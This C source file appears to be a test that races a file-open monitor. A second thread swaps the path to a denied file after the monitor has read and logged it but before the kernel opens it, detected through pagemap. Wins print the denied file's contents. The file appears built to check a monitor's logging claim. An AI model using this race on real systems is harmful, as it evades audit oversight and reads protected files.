// SPDX-License-Identifier: GPL-2.0-only
/*
 * Claim: the log names the file that was opened, although a second thread
 * changes the name once while the call is on its way (catalogue A5).
 *
 *	opener			flipper			monitor
 *	openat(name) --------------------------------->	reads name, and logs it
 *				sees that, name := denied
 *	kernel reads name, opens the denied file
 *
 * The name is in a page that is not mapped until somebody reads it, and pagemap
 * tells when; the flipper writes by another mapping. Both files may be opened;
 * opening the denied one is to be logged each time. The first flip is before the
 * call: one sure win. Wins are opens of the denied file: its content is printed.
 */
#include "race.h"

#include <pthread.h>

#define TRIES 300
#define ENOUGH_WINS 90 /* somebody keeps the lines of all of them */
#define PRESENT 63 /* the bit of a pagemap entry */

static struct flip flip;
static _Atomic unsigned int wanted, done;
static char *name, *writable;
static int pagemap;
static long page_size;

/* The same page twice. */
static void map_names(void)
{
	int memory = (int)syscall(SYS_memfd_create, "name", JUNK(0));

	page_size = sysconf(_SC_PAGESIZE);
	pagemap = raw_openat(AT_FDCWD, "/proc/self/pagemap", O_RDONLY);
	if (memory < 0 || ftruncate(memory, page_size) || pagemap < 0)
		broken("no page to watch: %s", strerror(errno));
	writable = mmap(NULL, page_size, PROT_READ | PROT_WRITE, MAP_SHARED, memory, 0);
	name = mmap(NULL, page_size, PROT_READ, MAP_SHARED, memory, 0);
	if (writable == MAP_FAILED || name == MAP_FAILED || flip.length >= (size_t)page_size)
		broken("mmap: %s", strerror(errno));
}

static bool somebody_has_read(void)
{
	uint64_t entry = 0;

	if (pread(pagemap, &entry, sizeof(entry), (uintptr_t)name / page_size * sizeof(entry)) < 0)
		broken("pagemap: %s", strerror(errno));
	return entry >> PRESENT;
}

static void *flipper(void *unused)
{
	(void)unused;
	for (unsigned int turn = 1; turn <= TRIES; turn++) {
		while (atomic_load(&wanted) != turn || (turn > 1 && !somebody_has_read()))
			let_run();
		memcpy(writable, flip.names[1], flip.length);
		atomic_store(&done, turn);
	}
	return NULL;
}

static void wait_for_flip(unsigned int turn)
{
	while (atomic_load(&done) != turn)
		sched_yield();
}

static void try_once(struct run *run, unsigned int turn)
{
	int fd;

	memcpy(writable, flip.names[0], flip.length);
	if (madvise(name, page_size, MADV_DONTNEED))
		broken("madvise: %s", strerror(errno));
	atomic_store(&wanted, turn);
	if (turn == 1)
		wait_for_flip(turn);
	fd = raw_open(name, O_RDONLY);
	(void)*(volatile char *)name; /* a call may be refused unread: then nobody else does */
	wait_for_flip(turn);
	run->attempts++;
	run_opened(run, fd);
}

static void race(struct run *run, const char *second)
{
	pthread_t thread;

	run_learn_decoy(run);
	flip_init(&flip, run->allowed, second);
	map_names();
	bind_to_one_cpu();
	if (pthread_create(&thread, NULL, flipper, NULL))
		broken("no second thread");
	stand_behind();
	for (unsigned int turn = 1; turn <= TRIES && run->wins < (run->stop_at_win ? 1 : ENOUGH_WINS); turn++)
		try_once(run, turn);
}

int main(int argc, char **argv)
{
	struct run run = run_begin(argc, argv);

	switch (run.mode) {
	case MODE_BENIGN:
		race(&run, run.allowed);
		break;
	case MODE_DIRECT:
		run_plain_read(&run, run.denied);
		break;
	case MODE_ATTACK:
		race(&run, run.denied);
		break;
	}
	run_end(&run);
}
